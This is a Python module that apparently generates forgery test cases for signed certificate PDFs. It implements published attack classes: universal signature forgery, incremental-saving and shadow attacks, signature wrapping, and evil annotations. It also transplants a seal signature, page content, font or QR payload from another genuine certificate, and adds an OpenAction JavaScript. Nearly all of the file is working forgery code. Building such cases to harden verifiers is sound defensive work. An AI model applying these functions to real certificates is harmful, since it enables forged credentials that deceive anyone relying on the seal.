"""Attacks on signed certificate PDFs, as plain functions: the bytes of a genuine certificate
in, the bytes of a forgery out.

Every function builds one attack of the classes published by Ruhr-University Bochum
(pdf-insecurity.org): Universal Signature Forgery (USF: a broken ``/ByteRange`` or
``/Contents`` makes a careless verifier skip the check), Incremental Saving Attacks (ISA:
content appended after the signed revision), Signature Wrapping (SWA: the signed bytes are
moved so that unsigned bytes take their place), shadow attacks (hide, replace,
hide-and-replace: a later update changes what is shown) and certification attacks (evil
annotations, sneaky signatures). The rest are transplants between two genuine certificates
and damaged files.

The functions work on the bytes the signer wrote, the way an attacker with a hex editor or a
PDF library would: in-place edits keep every offset, incremental updates are hand-written
(an object section, a classic cross-reference table and a trailer chained with ``/Prev``) so
that each attack changes exactly what its name says. A signed PDF is never re-saved by a
library here: that would rewrite the file and only test the obvious.
"""

from __future__ import annotations

import re
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from io import BytesIO
from typing import Any

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.reader import PdfFileReader

SEAL = "Seal"
DOC_TIMESTAMP = "DocTimeStamp"


# --- reading the genuine file ------------------------------------------------------------


@dataclass(frozen=True)
class SignatureSpan:
    """Where one signature sits in the file (offsets in bytes)."""

    byte_range: tuple[int, int, int, int]
    contents_start: int
    """Offset of the ``<`` opening the hex ``/Contents`` (the end of the first signed range)."""
    contents_end: int
    """Offset just after the closing ``>`` (the start of the second signed range)."""
    byte_range_text: tuple[int, int]
    """Offsets of ``/ByteRange [ … ]`` and the blank padding after it, in the second range."""


def signature_span(data: bytes, field: str = SEAL) -> SignatureSpan:
    """Locate the signature of ``field`` (``Seal`` or ``DocTimeStamp``) in a genuine file."""
    reader = PdfFileReader(BytesIO(data), strict=False)
    embedded = next(s for s in reader.embedded_signatures if s.field_name == field)
    start1, length1, start2, length2 = (int(x) for x in embedded.byte_range)
    match = re.compile(rb"/ByteRange\s*\[[\d\s]*\] *").search(data, start2, start2 + 200)
    if match is None:
        raise ValueError("no /ByteRange after the signature's /Contents")
    return SignatureSpan(
        (start1, length1, start2, length2), length1, start2, (match.start(), match.end())
    )


def _contents_hex(data: bytes, span: SignatureSpan) -> bytes:
    return data[span.contents_start + 1 : span.contents_end - 1]


def _der_length(contents_hex: bytes) -> int:
    """Length in hex digits of the DER signature at the start of a padded ``/Contents``."""
    der = bytes.fromhex(contents_hex.decode("ascii"))
    if der[1] < 0x80:
        return 2 * (2 + der[1])
    size = der[1] & 0x7F
    return 2 * (2 + size + int.from_bytes(der[2 : 2 + size], "big"))


def _replace(data: bytes, start: int, end: int, new: bytes) -> bytes:
    """Overwrite ``data[start:end]`` with ``new`` padded with blanks: offsets are kept."""
    if len(new) > end - start:
        raise ValueError("replacement longer than the replaced bytes")
    return data[:start] + new.ljust(end - start, b" ") + data[end:]


def _set_byte_range(data: bytes, field: str, values: Sequence[int] | None) -> bytes:
    span = signature_span(data, field)
    start, end = span.byte_range_text
    if values is None:
        return _replace(data, start, end, b"")
    return _replace(data, start, end, b"/ByteRange [" + " ".join(map(str, values)).encode() + b"]")


@dataclass(frozen=True)
class _Trailer:
    root: int
    info: int | None
    size: int
    startxref: int
    id_text: bytes


def _last_trailer(data: bytes) -> _Trailer:
    trailer_at = data.rindex(b"trailer")
    text = data[trailer_at:]
    root = re.search(rb"/Root (\d+) 0 R", text)
    size = re.search(rb"/Size (\d+)", text)
    info = re.search(rb"/Info (\d+) 0 R", text)
    ids = re.search(rb"/ID \[[^\]]*\]", text)
    startxrefs = re.findall(rb"startxref\s+(\d+)", data)
    if root is None or size is None or ids is None or not startxrefs:
        raise ValueError("not a classic trailer")
    return _Trailer(
        int(root.group(1)),
        int(info.group(1)) if info else None,
        int(size.group(1)),
        int(startxrefs[-1]),
        ids.group(0),
    )


def serialise(obj: Any) -> bytes:
    """One pyHanko object as PDF syntax."""
    out = BytesIO()
    obj.write_to_stream(out, None)
    return out.getvalue()


def append_revision(data: bytes, objects: Mapping[int, bytes], *, info: int | None = None) -> bytes:
    """A hand-written incremental update: the object bodies ``objects`` (number → syntax of
    the object, without ``obj``/``endobj``), a classic xref table and a trailer that keeps
    ``/Root``, ``/Info`` (unless ``info`` is given) and ``/ID`` and chains to the last one."""
    last = _last_trailer(data)
    out = bytearray(data)
    if not out.endswith(b"\n"):
        out += b"\n"
    offsets: dict[int, int] = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    xref_at = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number in sorted(offsets):
        out += b"%d 1\n%010d 00000 n \n" % (number, offsets[number])
    size = max(last.size, max(objects, default=0) + 1)
    info_ref = info if info is not None else last.info
    out += b"trailer\n<< /Size %d /Root %d 0 R " % (size, last.root)
    if info_ref is not None:
        out += b"/Info %d 0 R " % info_ref
    out += last.id_text + b" /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (last.startxref, xref_at)
    return bytes(out)


class _Doc:
    """The latest version of a genuine file's objects, for building updates."""

    def __init__(self, data: bytes) -> None:
        self.data = data
        self.reader = PdfFileReader(BytesIO(data), strict=False)
        self.trailer = _last_trailer(data)
        root = self.reader.root
        self.page_ref = _raw_items(root["/Pages"]["/Kids"])[0]
        self.page = self.page_ref.get_object()
        self.next_number = self.trailer.size

    def new_number(self) -> int:
        number = self.next_number
        self.next_number += 1
        return number

    def page_with(self, **entries: generic.PdfObject) -> bytes:
        page = generic.DictionaryObject(dict(self.page))
        for key, value in entries.items():
            page[generic.NameObject("/" + key)] = value
        return serialise(page)

    def annotations(self) -> list[Any]:
        return _raw_items(self.page["/Annots"]) if "/Annots" in self.page else []


def _raw_items(array: Any) -> list[Any]:
    """The entries of a pyHanko array as stored (indirect references kept)."""
    return [array.raw_get(i) for i in range(len(array))]


def _ref(number: int) -> generic.IndirectObject:
    return generic.IndirectObject(number, 0, None)


def _stream(content: bytes, **entries: generic.PdfObject) -> bytes:
    header = generic.DictionaryObject({generic.NameObject("/" + k): v for k, v in entries.items()})
    return serialise(generic.StreamObject(header, stream_data=content))


def _rect(*values: float) -> generic.ArrayObject:
    return generic.ArrayObject([generic.FloatObject(v) for v in values])


# --- Universal Signature Forgery ----------------------------------------------------------


def usf_byte_range_missing(data: bytes, field: str = SEAL) -> bytes:
    """USF: the ``/ByteRange`` entry is blanked out, so there is nothing to digest; a
    verifier that then skips the digest check would accept anything."""
    return _set_byte_range(data, field, None)


def usf_byte_range_empty(data: bytes, field: str = SEAL) -> bytes:
    """USF: ``/ByteRange []``, an empty list of signed ranges."""
    return _set_byte_range(data, field, [])


def usf_byte_range_zero(data: bytes, field: str = SEAL) -> bytes:
    """USF: ``/ByteRange [0 0 0 0]``: two empty ranges, i.e. a digest of nothing."""
    return _set_byte_range(data, field, [0, 0, 0, 0])


def usf_byte_range_reordered(data: bytes, field: str = SEAL) -> bytes:
    """USF: the two ranges swapped, ``[start2 len2 0 len1]``: the same bytes in another
    order, for a verifier that sorts or only sums the ranges."""
    _, length1, start2, length2 = signature_span(data, field).byte_range
    return _set_byte_range(data, field, [start2, length2, 0, length1])


def usf_byte_range_overlapping(data: bytes, field: str = SEAL) -> bytes:
    """USF: ranges overlapping the ``/Contents`` string and each other, so that the same
    bytes are counted twice and the lengths still add up to the file size."""
    _, length1, start2, length2 = signature_span(data, field).byte_range
    return _set_byte_range(data, field, [0, length1 + 64, start2 - 64, length2])


def usf_byte_range_short(data: bytes, field: str = SEAL) -> bytes:
    """USF: the second range stops 64 bytes early: the end of the signed revision (its
    cross-reference table) is not covered."""
    _, length1, start2, length2 = signature_span(data, field).byte_range
    return _set_byte_range(data, field, [0, length1, start2, length2 - 64])


def usf_byte_range_whole_file(data: bytes, field: str = SEAL) -> bytes:
    """USF: the second range stretched to the end of the file, as if the signature covered
    the later revisions too."""
    _, length1, start2, _ = signature_span(data, field).byte_range
    return _set_byte_range(data, field, [0, length1, start2, len(data) - start2])


def usf_contents_empty(data: bytes, field: str = SEAL) -> bytes:
    """USF: ``/Contents <>``: no signature at all, the rest of the reserved space blank."""
    span = signature_span(data, field)
    return _replace(data, span.contents_start, span.contents_end, b"<>")


def usf_contents_zeroed(data: bytes, field: str = SEAL) -> bytes:
    """USF: ``/Contents`` kept at its size but all zeros (the unsigned placeholder)."""
    span = signature_span(data, field)
    zeros = b"0" * (span.contents_end - span.contents_start - 2)
    return _replace(data, span.contents_start, span.contents_end, b"<" + zeros + b">")


def usf_contents_garbage_der(data: bytes, field: str = SEAL) -> bytes:
    """USF: ``/Contents`` holding a syntactically broken CMS structure (a truncated
    SEQUENCE), for parsers that fail open."""
    span = signature_span(data, field)
    size = span.contents_end - span.contents_start - 2
    garbage = (b"3082ffff0609" + b"0" * size)[:size]
    return _replace(data, span.contents_start, span.contents_end, b"<" + garbage + b">")


def contents_swapped(data: bytes, other: bytes, field: str = SEAL) -> bytes:
    """USF / transplant: the CMS signature of another genuine certificate put in place of
    this one's (a valid seal signature by the bureau, over another document)."""
    span = signature_span(data, field)
    theirs = _contents_hex(other, signature_span(other, field))
    size = span.contents_end - span.contents_start - 2
    used = _der_length(theirs)
    if used > size:
        raise ValueError("the other signature does not fit")
    return _replace(
        data, span.contents_start, span.contents_end, b"<" + theirs[:used].ljust(size, b"0") + b">"
    )


def signature_dictionary_copied(data: bytes, other: bytes, field: str = SEAL) -> bytes:
    """Transplant: another certificate's signature value *and* byte range copied in, as an
    attacker would copy a whole signature dictionary from a valid document."""
    swapped = contents_swapped(data, other, field)
    return _set_byte_range(swapped, field, signature_span(other, field).byte_range)


def contents_padding_flipped(data: bytes, field: str = SEAL) -> bytes:
    """Malleability: one hex digit of the zero padding after the DER signature in
    ``/Contents`` changed. The signed bytes are untouched (``/Contents`` is outside every
    byte range) and so is the DER signature: only a verifier that insists on canonical
    padding notices. Without that, two different files carry the same valid seal."""
    span = signature_span(data, field)
    contents = _contents_hex(data, span)
    at = span.contents_start + 1 + _der_length(contents) + 100
    return data[:at] + b"7" + data[at + 1 :]


def signature_value_altered(data: bytes, field: str = SEAL) -> bytes:
    """A hex digit near the end of the DER in ``/Contents`` changed: inside the signature
    value of the CMS structure (the seal's, or the document timestamp token's), with the
    signed bytes and the padding untouched."""
    span = signature_span(data, field)
    at = span.contents_start + 1 + _der_length(_contents_hex(data, span)) - 8
    digit = b"1" if data[at : at + 1] != b"1" else b"2"
    return data[:at] + digit + data[at + 1 :]


# --- Signature Wrapping ------------------------------------------------------------------


def _xref_sections(data: bytes) -> list[tuple[int, int]]:
    """(start, end) of every classic ``xref`` table, up to the end of its trailer."""
    spans = []
    for match in re.finditer(rb"(?m)^xref\r?\n", data):
        end = data.index(b"startxref", match.start())
        spans.append((match.start(), end))
    return spans


def _shift_xref(table: bytes, at: int, by: int, repoint: Mapping[int, int] = {}) -> bytes:
    """A classic xref table with every in-use offset at or after ``at`` moved by ``by``, and
    the objects of ``repoint`` (number → offset) pointed elsewhere."""
    lines = table.split(b"\n")
    out, number = [], 0
    for line in lines:
        entry = re.fullmatch(rb"(\d{10}) (\d{5}) n ?\r?", line)
        section = re.fullmatch(rb"(\d+) (\d+)\r?", line)
        if entry:
            offset = repoint.get(number, int(entry.group(1)))
            if number not in repoint and offset >= at:
                offset += by
            line = b"%010d %s n " % (offset, entry.group(2))
            number += 1
        elif section:
            number = int(section.group(1))
        elif re.fullmatch(rb"\d{10} \d{5} f ?\r?", line):
            number += 1
        out.append(line)
    return b"\n".join(out)


def signature_wrapping(data: bytes) -> bytes:
    """SWA: the seal's second signed range (its signature dictionary's tail and the signed
    revision's xref table) is moved further into the file. The freed space, inside the gap
    that ``/ByteRange`` leaves for ``/Contents``, takes a signature dictionary tail whose
    ``/ByteRange`` points at the moved bytes, a new page content stream and a copy of the
    signed revision's xref table that points the page at it; the later revisions' offsets
    are fixed up. The digest over the ranges is the genuine one; the page a viewer draws is
    the attacker's."""
    span = signature_span(data, SEAL)
    _, length1, start2, length2 = span.byte_range
    signed_end = start2 + length2
    doc = _Doc(data)
    content_number = doc.page.raw_get("/Contents").idnum
    dict_tail_end = data.index(b"endobj", span.byte_range_text[1]) + len(b"endobj\n")
    sections = _xref_sections(data)
    signed_xref = next((s, e) for s, e in sections if start2 <= s < signed_end)
    placeholder = b"/ByteRange [0 %d %010d %d]" % (length1, 0, length2)
    gap = bytearray(placeholder + data[span.byte_range_text[1] : dict_tail_end])
    content_at = start2 + len(gap)
    gap += b"%d 0 obj\n" % content_number
    gap += _stream(b"q 1 1 1 rg 0 0 595 842 re f Q BT /F1+0 40 Tf 100 500 Td (FORGED) Tj ET")
    gap += b"\nendobj\n"
    copy_at = start2 + len(gap)
    # the copy's own offsets are fixed once the gap's size is known (two passes)
    table = data[signed_xref[0] : signed_xref[1]]
    for _ in range(2):
        size = len(gap) + len(table)
        table = _shift_xref(
            data[signed_xref[0] : signed_xref[1]], start2, size, {content_number: content_at}
        )
    gap += table
    shift = len(gap)
    gap[: len(placeholder)] = b"/ByteRange [0 %d %010d %d]" % (length1, start2 + shift, length2)
    tail = bytearray(data[signed_end:])
    out = data[:start2] + bytes(gap) + data[start2:signed_end]
    # later revisions: shift their xref tables, /Prev and startxref values
    rest = bytes(tail)
    rest = re.sub(
        rb"/Prev (\d+)",
        lambda m: (
            b"/Prev %d"
            % (
                copy_at
                if int(m.group(1)) == signed_xref[0]
                else int(m.group(1)) + (shift if int(m.group(1)) >= start2 else 0)
            )
        ),
        rest,
    )
    rest = re.sub(
        rb"startxref\s+(\d+)",
        lambda m: b"startxref\n%d" % (int(m.group(1)) + shift),
        rest,
    )
    pieces, cursor = [], 0
    for s, e in _xref_sections(rest):
        pieces += [rest[cursor:s], _shift_xref(rest[s:e], start2, shift)]
        cursor = e
    pieces.append(rest[cursor:])
    return out + b"".join(pieces)


# --- Incremental Saving: a new revision appended to the genuine file ------------------


def isa_page_content(data: bytes) -> bytes:
    """ISA: a revision that appends a content stream to the page, drawing a white box over
    the holder's name and other text in its place."""
    doc = _Doc(data)
    number = doc.new_number()
    content = b"q 1 1 1 rg 120 600 360 60 re f Q BT /F1+0 24 Tf 130 620 Td (FORGED) Tj ET"
    contents = generic.ArrayObject([doc.page.raw_get("/Contents"), _ref(number)])
    return append_revision(
        data, {number: _stream(content), doc.page_ref.idnum: doc.page_with(Contents=contents)}
    )


def isa_page_of_other_certificate(data: bytes, other: bytes) -> bytes:
    """ISA / transplant: the page content replaced by another certificate's (its name,
    hours and QR code drawn on this certificate's page, under this certificate's seal)."""
    doc = _Doc(data)
    theirs = _Doc(other)
    stream = theirs.page["/Contents"]
    number = doc.page.raw_get("/Contents").idnum
    body = serialise(generic.StreamObject(dict(stream), encoded_data=stream.encoded_data))
    return append_revision(data, {number: body})


def isa_free_text_annotation(data: bytes) -> bytes:
    """ISA / evil annotation: a FreeText annotation with an opaque background over the name,
    printing another name (annotations are drawn by every viewer, outside the content)."""
    doc = _Doc(data)
    number = doc.new_number()
    annotation = generic.DictionaryObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/Annot"),
            generic.NameObject("/Subtype"): generic.NameObject("/FreeText"),
            generic.NameObject("/Rect"): _rect(120, 600, 480, 660),
            generic.NameObject("/Contents"): generic.TextStringObject("张三 (forged)"),
            generic.NameObject("/DA"): generic.TextStringObject("/Helv 24 Tf 0 g"),
            generic.NameObject("/C"): _rect(1, 1, 1),
            generic.NameObject("/F"): generic.NumberObject(4),
            generic.NameObject("/P"): doc.page_ref,
        }
    )
    annots = generic.ArrayObject([*doc.annotations(), _ref(number)])
    return append_revision(
        data, {number: serialise(annotation), doc.page_ref.idnum: doc.page_with(Annots=annots)}
    )


def isa_stamp_annotation(data: bytes) -> bytes:
    """Certification attack (sneaky stamp): a rubber-stamp annotation with its own
    appearance (an opaque box with text) laid over the page."""
    doc = _Doc(data)
    annotation_number, appearance_number = doc.new_number(), doc.new_number()
    appearance = _stream(
        b"1 1 1 rg 0 0 200 80 re f 1 0 0 rg BT /Helv 20 Tf 10 30 Td (APPROVED) Tj ET",
        Type=generic.NameObject("/XObject"),
        Subtype=generic.NameObject("/Form"),
        BBox=_rect(0, 0, 200, 80),
    )
    annotation = generic.DictionaryObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/Annot"),
            generic.NameObject("/Subtype"): generic.NameObject("/Stamp"),
            generic.NameObject("/Rect"): _rect(300, 300, 500, 380),
            generic.NameObject("/F"): generic.NumberObject(4),
            generic.NameObject("/AP"): generic.DictionaryObject(
                {generic.NameObject("/N"): _ref(appearance_number)}
            ),
            generic.NameObject("/P"): doc.page_ref,
        }
    )
    annots = generic.ArrayObject([*doc.annotations(), _ref(annotation_number)])
    return append_revision(
        data,
        {
            annotation_number: serialise(annotation),
            appearance_number: appearance,
            doc.page_ref.idnum: doc.page_with(Annots=annots),
        },
    )


def isa_font_replaced(data: bytes, other: bytes) -> bytes:
    """ISA / shadow replace: the embedded font program of the page replaced by the subset of
    another certificate, so that the same character codes draw other glyphs (another name)
    while the content stream stays byte for byte the signed one."""
    doc = _Doc(data)
    theirs = _Doc(other)

    def font_file(d: _Doc) -> tuple[int, Any]:
        fonts = d.page["/Resources"]["/Font"]
        for name in sorted(fonts):
            font = fonts[name]
            if "/DescendantFonts" in font:  # a Type0 font: the descriptor is its CIDFont's
                font = font["/DescendantFonts"][0]
            descriptor = font["/FontDescriptor"]
            if "/FontFile2" in descriptor:
                ref = descriptor.raw_get("/FontFile2")
                return ref.idnum, ref.get_object()
        raise ValueError("no embedded TrueType font")

    number, _ = font_file(doc)
    _, stream = font_file(theirs)
    body = serialise(generic.StreamObject(dict(stream), encoded_data=stream.encoded_data))
    return append_revision(data, {number: body})


def isa_form_field_value(data: bytes) -> bytes:
    """ISA / form filling: a text field ``Name`` with a value and a visible widget added to
    the form (the change a filled-in form makes; forbidden under DocMDP "no changes")."""
    doc = _Doc(data)
    number = doc.new_number()
    acroform_ref = doc.reader.root.raw_get("/AcroForm")
    acroform = generic.DictionaryObject(dict(acroform_ref.get_object()))
    field = generic.DictionaryObject(
        {
            generic.NameObject("/FT"): generic.NameObject("/Tx"),
            generic.NameObject("/T"): generic.TextStringObject("Name"),
            generic.NameObject("/V"): generic.TextStringObject("张三"),
            generic.NameObject("/Type"): generic.NameObject("/Annot"),
            generic.NameObject("/Subtype"): generic.NameObject("/Widget"),
            generic.NameObject("/Rect"): _rect(120, 600, 480, 660),
            generic.NameObject("/F"): generic.NumberObject(4),
            generic.NameObject("/P"): doc.page_ref,
        }
    )
    acroform[generic.NameObject("/Fields")] = generic.ArrayObject(
        [*_raw_items(acroform["/Fields"]), _ref(number)]
    )
    annots = generic.ArrayObject([*doc.annotations(), _ref(number)])
    return append_revision(
        data,
        {
            number: serialise(field),
            acroform_ref.idnum: serialise(acroform),
            doc.page_ref.idnum: doc.page_with(Annots=annots),
        },
    )


def isa_changed_field_value(data: bytes) -> bytes:
    """ISA / form filling on an existing field: the document timestamp field's value
    pointed at the seal's signature dictionary, and the seal field renamed, so that a viewer
    lists the fields differently from what was signed."""
    doc = _Doc(data)
    objects: dict[int, bytes] = {}
    for ref in _raw_items(doc.reader.root["/AcroForm"]["/Fields"]):
        field = generic.DictionaryObject(dict(ref.get_object()))
        if str(field["/T"]) == SEAL:
            field[generic.NameObject("/TU")] = generic.TextStringObject("张三的证书")
            objects[ref.idnum] = serialise(field)
    return append_revision(data, objects)


def isa_payload_swapped(data: bytes, other: bytes) -> bytes:
    """ISA / transplant: the catalog's ``/CECert /Payload`` replaced in a new revision by the
    QR payload of another genuine certificate (re-signing is impossible without the seal
    key, so the seal of *this* document is kept)."""
    doc = _Doc(data)
    theirs = _Doc(other)
    root = generic.DictionaryObject(dict(doc.reader.root))
    root[generic.NameObject("/CECert")] = generic.DictionaryObject(
        {
            generic.NameObject("/Payload"): generic.TextStringObject(
                str(theirs.reader.root["/CECert"]["/Payload"])
            )
        }
    )
    return append_revision(data, {doc.trailer.root: serialise(root)})


def payload_of_other_appended(data: bytes, other: bytes) -> bytes:
    """Another person's QR payload put *elsewhere* in a genuine file: a revision with an
    unreferenced ``<< /Payload (…) >>`` object, for a verifier that takes the last payload
    string it finds rather than the signed catalog's."""
    doc = _Doc(data)
    payload = str(_Doc(other).reader.root["/CECert"]["/Payload"])
    body = serialise(
        generic.DictionaryObject(
            {generic.NameObject("/Payload"): generic.TextStringObject(payload)}
        )
    )
    return append_revision(data, {doc.new_number(): body})


def isa_open_action(data: bytes) -> bytes:
    """ISA / evil catalog: an ``/OpenAction`` JavaScript added to the catalog, which a viewer
    runs on opening (to rewrite what is shown)."""
    doc = _Doc(data)
    root = generic.DictionaryObject(dict(doc.reader.root))
    root[generic.NameObject("/OpenAction")] = generic.DictionaryObject(
        {
            generic.NameObject("/S"): generic.NameObject("/JavaScript"),
            generic.NameObject("/JS"): generic.TextStringObject("app.alert('forged')"),
        }
    )
    return append_revision(data, {doc.trailer.root: serialise(root)})


def isa_info_changed(data: bytes) -> bytes:
    """ISA after the last timestamp: the document information dictionary (title, author,
    subject shown by every viewer's document properties) rewritten to another holder."""
    doc = _Doc(data)
    number = doc.new_number()
    info = generic.DictionaryObject(
        {
            generic.NameObject("/Title"): generic.TextStringObject("继续教育证书 张三"),
            generic.NameObject("/Author"): generic.TextStringObject("张三"),
        }
    )
    return append_revision(data, {number: serialise(info)}, info=number)


def isa_xmp_changed(data: bytes) -> bytes:
    """ISA after the last timestamp: the XMP metadata stream replaced (title and creator of
    another holder)."""
    doc = _Doc(data)
    number = doc.new_number()
    xmp = (
        b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>'
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
        b'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        b'<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        b"<dc:creator><rdf:Seq><rdf:li>Zhang San</rdf:li></rdf:Seq></dc:creator>"
        b'</rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="r"?>'
    )
    root = generic.DictionaryObject(dict(doc.reader.root))
    root[generic.NameObject("/Metadata")] = _ref(number)
    stream = _stream(xmp, Type=generic.NameObject("/Metadata"), Subtype=generic.NameObject("/XML"))
    return append_revision(data, {number: stream, doc.trailer.root: serialise(root)})


def bytes_appended(data: bytes) -> bytes:
    """ISA without a revision: bytes appended after the final ``%%EOF`` (a hidden payload, or
    an update a lenient parser would pick up)."""
    return data + b"\n1 0 obj\n<< /Forged true >>\nendobj\n% unsigned tail\n"


def last_revision_byte_flipped(data: bytes) -> bytes:
    """Tampering in the final revision: one byte of the document timestamp field's
    ``/TU (Timestamp)`` string, written in the revision the document timestamp covers."""
    at = data.rindex(b"/TU (Timestamp)") + len(b"/TU (") + 2
    return data[:at] + bytes([data[at] ^ 0x01]) + data[at + 1 :]


# --- Shadow attacks (hide, replace, hide-and-replace) --------------------------------------


def shadow_hide(data: bytes) -> bytes:
    """Shadow *hide*: a later revision adds an opaque white Square annotation over the
    holder's name, hiding signed content without touching it."""
    doc = _Doc(data)
    number = doc.new_number()
    annotation = generic.DictionaryObject(
        {
            generic.NameObject("/Type"): generic.NameObject("/Annot"),
            generic.NameObject("/Subtype"): generic.NameObject("/Square"),
            generic.NameObject("/Rect"): _rect(100, 580, 500, 680),
            generic.NameObject("/IC"): _rect(1, 1, 1),
            generic.NameObject("/C"): _rect(1, 1, 1),
            generic.NameObject("/F"): generic.NumberObject(4),
            generic.NameObject("/P"): doc.page_ref,
        }
    )
    annots = generic.ArrayObject([*doc.annotations(), _ref(number)])
    return append_revision(
        data, {number: serialise(annotation), doc.page_ref.idnum: doc.page_with(Annots=annots)}
    )


def shadow_replace(data: bytes) -> bytes:
    """Shadow *replace*: the page's signed content stream overridden by a new object of the
    same number (the signed object stays in the file, unused)."""
    doc = _Doc(data)
    number = doc.page.raw_get("/Contents").idnum
    content = b"BT /F1+0 24 Tf 100 600 Td (replaced) Tj ET"
    return append_revision(data, {number: _stream(content)})


def shadow_hide_and_replace(data: bytes) -> bytes:
    """Shadow *hide-and-replace*: the page tree overridden so that the document shows a new
    page; the signed page is still in the file but no longer reachable."""
    doc = _Doc(data)
    pages_ref = doc.reader.root.raw_get("/Pages")
    page_number, content_number = doc.new_number(), doc.new_number()
    page = generic.DictionaryObject(dict(doc.page))
    page[generic.NameObject("/Contents")] = _ref(content_number)
    page[generic.NameObject("/Parent")] = pages_ref
    pages = generic.DictionaryObject(dict(pages_ref.get_object()))
    pages[generic.NameObject("/Kids")] = generic.ArrayObject([_ref(page_number)])
    return append_revision(
        data,
        {
            page_number: serialise(page),
            content_number: _stream(b"BT /F1+0 24 Tf 100 600 Td (new page) Tj ET"),
            pages_ref.idnum: serialise(pages),
        },
    )


def shadow_seal_appearance(data: bytes) -> bytes:
    """Shadow on the seal widget: the seal field's appearance stream replaced, so that the
    area of the red seal shows something else (a change some verifiers allow on signature
    fields)."""
    doc = _Doc(data)
    for ref in _raw_items(doc.reader.root["/AcroForm"]["/Fields"]):
        field = ref.get_object()
        if str(field["/T"]) == SEAL:
            appearance = field["/AP"].raw_get("/N")
            stream = _stream(
                b"1 1 1 rg 0 0 120 120 re f BT /Helv 12 Tf 5 60 Td (forged) Tj ET",
                Type=generic.NameObject("/XObject"),
                Subtype=generic.NameObject("/Form"),
                BBox=_rect(0, 0, 120, 120),
            )
            return append_revision(data, {appearance.idnum: stream})
    raise ValueError("no seal field")


# --- damaged files -------------------------------------------------------------------------


def truncated(data: bytes) -> bytes:
    """Damage: the file cut in the middle."""
    return data[: len(data) // 2]


def tail_cut(data: bytes) -> bytes:
    """Damage: the last 100 bytes (trailer, ``startxref``, ``%%EOF``) missing."""
    return data[:-100]


def last_revision_removed(data: bytes) -> bytes:
    """The final revision cut off, the file ending at the previous ``%%EOF``: whatever the
    last revision held (the document timestamp, or later validation data) is gone."""
    ends = [m.end() for m in re.finditer(rb"%%EOF\r?\n?", data)]
    return data[: ends[-2]]


def garbage(data: bytes) -> bytes:
    """A file that starts like a PDF and is otherwise noise (deterministic bytes)."""
    noise = bytes((i * 131 + 17) % 256 for i in range(4096))
    return b"%PDF-1.7\n" + noise
